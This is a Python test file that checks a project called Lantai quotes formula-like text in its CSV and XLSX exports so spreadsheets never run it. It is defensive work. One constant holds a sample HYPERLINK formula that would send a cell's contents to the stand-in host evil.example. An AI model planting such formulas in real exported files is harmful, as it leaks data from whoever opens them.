"""Formula injection: text that a spreadsheet would run stays text in every CSV and XLSX Lantai writes."""

from __future__ import annotations

from pathlib import Path

import pytest
from openpyxl import load_workbook

from lantai.domain.cells import plain_cell, safe_cell
from lantai.packages.catalogue import CatalogueEntry, CatalogueHeading, write_catalogue
from lantai.packages.transfer.register import TransferRegister, _write_xlsx, read_register

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'


@pytest.mark.parametrize("text", [EVIL, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "＝1"])
def test_formula_text_is_quoted_and_restorable(text: str) -> None:
    assert safe_cell(text) == "'" + text
    assert plain_cell(safe_cell(text)) == text


@pytest.mark.parametrize("value", ["关于归档的通知", "2025-03-18", "'already quoted", "", 5, -3, 2.5, None])
def test_ordinary_values_are_untouched(value: object) -> None:
    assert safe_cell(value) == value


def test_xlsx_catalogue_writes_a_hostile_title_as_a_string(tmp_path: Path) -> None:
    target = tmp_path / "目录.xlsx"
    entry = CatalogueEntry(1, "Z109-WS·2025-Y-BGS-0001", "-1", "@作者", EVIL, "2025-03-18", "公开", 3, "+备注", "")
    write_catalogue([entry], target, CatalogueHeading("Z109", "示范区人民政府", 2025))
    row = next(load_workbook(target).active.iter_rows(min_row=2, max_row=2))
    cells = {c.value: c for c in row}
    for text in (EVIL, "-1", "@作者", "+备注"):
        cell = cells["'" + text]
        assert cell.data_type == "s", text  # a string cell, never "f" (formula)
    assert all(c.data_type != "f" for c in row)


def test_transfer_register_is_neutralised_and_reads_back(tmp_path: Path) -> None:
    target = tmp_path / "移交登记表.xlsx"
    _write_xlsx(TransferRegister(unit_name=EVIL, transfer_id="T-1", transferred_at="2026-01-01", items=3,
                                 remarks="-删除后果自负"), target)
    sheet = load_workbook(target).active
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    back = read_register(target)
    assert back.unit_name == EVIL and back.remarks == "-删除后果自负" and back.items == 3
